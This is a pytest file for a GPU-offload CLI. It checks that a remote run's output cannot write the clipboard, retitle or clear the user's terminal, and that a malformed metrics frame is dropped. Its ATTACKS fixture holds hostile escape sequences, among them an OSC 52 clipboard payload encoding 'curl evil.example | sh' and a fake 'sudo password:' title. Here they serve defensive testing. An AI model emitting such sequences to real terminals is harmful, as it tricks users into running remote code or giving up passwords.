"""Text from a donor, on the sandbox: a run's output reaches the user's terminal as text (no escape sequence
writes the clipboard, retitles or clears it), and a mistyped frame is dropped with a warning instead of
crashing ``%gpu_offload status``."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from ...cli.helpers import cli, environment
from .conftest import EVIL_IMAGE, STOCK_IMAGE

ATTACKS = {
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # OSC 52: "curl evil.example | sh"
    "title": "\x1b]0;sudo password:\x07",
    "clear": "\x1b[2J\x1b[H",
    "hide": "secret\x1b[8m",
}


def test_a_donors_escape_sequences_reach_the_shell_as_text(origin: Any, namespace: str, tmp_path: Path) -> None:
    script = tmp_path / "proj" / "noisy.py"
    script.parent.mkdir()
    printed = "".join(f"{name}: {seq}|\n" for name, seq in ATTACKS.items())
    script.write_text(f"import sys\nsys.stdout.write({printed!r} + 'bar 50%\\rbar 100%\\n')\n"
                      f"sys.stderr.write({ATTACKS['clipboard']!r} + '\\n')\n")
    env = environment(tmp_path / "state", KUBECONFIG=str(origin.sandbox.kubeconfig),
                      GPU_OFFLOAD_NAMESPACE=namespace, GPU_OFFLOAD_IMAGE=STOCK_IMAGE,
                      JUPYTERHUB_USER="alice@example.org")
    done = cli(["run", "--gpus", "1", "--cluster", "donor-2", "noisy.py"], script.parent, env)
    assert done.returncode == 0, done.stderr
    for shown in (done.stdout, done.stderr):
        assert "\x1b]" not in shown and "\x07" not in shown, f"an escape sequence reached the terminal: {shown!r}"
        assert "\x1b[2J" not in shown and "\x1b[8m" not in shown
    assert "clipboard: \N{REPLACEMENT CHARACTER}]52;c;" in done.stdout  # shown, not obeyed
    assert "bar 50%" in done.stdout and "bar 100%" in done.stdout  # the text itself is all there


def test_a_mistyped_metrics_frame_is_dropped_and_status_still_reports(shell: Any,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    shell.run_cell_magic("gpu_offload", f"--gpus 1 --image {EVIL_IMAGE} --timeout 120", "# EVIL_MODE=metrics\ny = 1")
    assert shell.user_ns["y"] == 1
    shown = capsys.readouterr()
    assert "metrics frame lacks or mistypes a field" in shown.out + shown.err  # the run's warning
    shell.run_line_magic("gpu_offload", "status")
    out = capsys.readouterr().out
    assert "last run: ok" in out and "not text" not in out
